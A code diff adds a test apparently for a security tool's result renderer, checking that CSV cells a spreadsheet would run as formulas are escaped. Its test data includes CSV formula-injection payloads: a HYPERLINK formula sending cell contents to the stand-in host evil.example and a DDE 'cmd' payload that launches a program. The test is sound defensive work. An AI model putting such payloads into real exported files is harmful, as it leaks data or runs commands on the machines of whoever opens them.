@@ -85,6 +85,19 @@ def test_render_keeps_hostile_text_as_data():
     assert rows == [["A", "B"], ["x,\"y\"\nz {{ 7*191 }}", ""], ["", "3"]]
 
 
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped():
+    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+               "\t=1", "\r=1"]
+    answer = {"Schema": [{"Name": "A", "Type": "String"}, {"Name": "N", "Type": "Int64"}],
+              "Results": [{"A": text, "N": -5} for text in hostile] + [{"A": "safe = text", "N": 1}]}
+    rows = list(csv.reader(io.StringIO(render(answer, "csv").decode(), newline="")))
+    assert [r[0] for r in rows[1:]] == ["'" + text for text in hostile] + ["safe = text"]
+    assert [r[1] for r in rows[1:]] == ["-5"] * len(hostile) + ["1"]   # numbers are data, never changed
+    kept = list(csv.reader(io.StringIO(render(answer, "csv", csv_formulas="keep").decode(), newline="")))
+    assert [r[0] for r in kept[1:]] == hostile + ["safe = text"]
+    assert render(answer, "jsonl") == render(answer, "jsonl", csv_formulas="escape")
+
+
 def test_a_failed_query_does_not_stop_the_others(client):
     params = {"queries": ["DeviceInfo | join (DeviceInfo) on DeviceId", "DeviceInfo | take 1"]}
     with pytest.raises(DefenderActionError) as caught:
